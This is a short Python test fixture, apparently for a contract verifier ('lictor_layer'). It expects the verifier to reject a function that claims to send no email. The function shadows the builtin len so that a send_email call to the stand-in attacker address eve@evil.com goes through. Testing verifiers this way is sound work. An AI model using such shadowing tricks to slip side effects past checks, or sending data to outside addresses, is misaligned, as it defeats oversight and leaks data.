# not proved: len is not len any more
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    len = lambda x: 0
    if len("abc") == 0:
        send_email("eve@evil.com", "x")
